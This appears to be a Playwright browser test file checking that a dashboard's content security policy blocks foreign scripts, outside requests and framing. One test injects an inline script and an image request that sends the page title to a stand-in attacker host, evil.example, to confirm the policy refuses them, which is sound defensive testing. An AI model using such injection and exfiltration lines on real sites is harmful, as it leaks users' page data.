"""Every page, as `serve` serves it: the content policy lets it be drawn, and nothing asks for what is refused."""

import re
import sys
import time

import pytest
from playwright.sync_api import expect

from csdash.ui.navigation import PAGES
from tests.browser.conftest import Reader
from tests.patience import SECONDS
from tools.serving import free_port, serving

pytestmark = pytest.mark.browser
VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


@pytest.fixture(scope="module")
def guarded(company):
    port = free_port()
    command = [sys.executable, "-m", "csdash", "serve", "--data", str(company), "--port", str(port)]
    with serving(command, port, seconds=SECONDS) as url:
        yield url


@pytest.fixture(scope="module")
def watched(guarded, browser):
    """A reader who goes from page to page, and all that the content policy had to refuse meanwhile."""
    with browser.new_context(locale="ja-JP", viewport={"width": 1440, "height": 900}) as context:
        one = Reader(context.new_page(), guarded)
        one.page.add_init_script(VIOLATIONS)
        yield one


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.url_path)
def test_a_page_is_drawn_and_asks_for_nothing_that_the_content_policy_refuses(watched, page):
    watched.open(page.url_path).draws()
    expect(watched.title).not_to_be_empty()
    expect(watched.page.get_by_test_id("stException")).to_have_count(0)
    assert (watched.page.evaluate("window.violations"), watched.errors, watched.outside) == ([], [], [])


def test_what_hovering_and_a_menu_draw_asks_for_nothing_either(watched):
    watched.open("nrr").draws()
    watched.page.locator(".js-plotly-plot .main-svg").first.hover()
    watched.page.locator(".st-key-share button").first.click()
    expect(watched.page.get_by_test_id("stPopoverBody")).to_be_visible()
    assert (watched.page.evaluate("window.violations"), watched.errors, watched.outside) == ([], [], [])


def test_a_script_that_is_not_ours_would_be_refused(guarded, reader):
    one = reader(guarded)
    one.page.add_init_script(VIOLATIONS)
    one.open("definitions")
    one.page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s); "
        "const i = new Image(); i.src = 'https://evil.example/?' + document.title; }"
    )
    # Asked again and again: a function that waits inside would have to be compiled there, which is refused as well.
    deadline = time.monotonic() + SECONDS
    while len(one.page.evaluate("window.violations")) < 2 and time.monotonic() < deadline:
        one.page.wait_for_timeout(50)
    assert one.page.evaluate("window.pwned") is None
    assert sorted(text.split()[0] for text in one.page.evaluate("window.violations")) == [
        "img-src",
        "script-src-elem",
    ]


def test_no_other_page_frames_it(guarded, reader):
    one = reader(guarded)
    one.page.route(
        "**/frame.html",
        lambda route: route.fulfill(
            body=f"<iframe src='{guarded}/definitions'></iframe>", content_type="text/html"
        ),
    )
    one.page.goto("http://other.localhost/frame.html")
    one.page.wait_for_timeout(500)
    framed = [frame for frame in one.page.frames if frame != one.page.main_frame]
    assert not [frame for frame in framed if re.search("stApp", frame.content())]
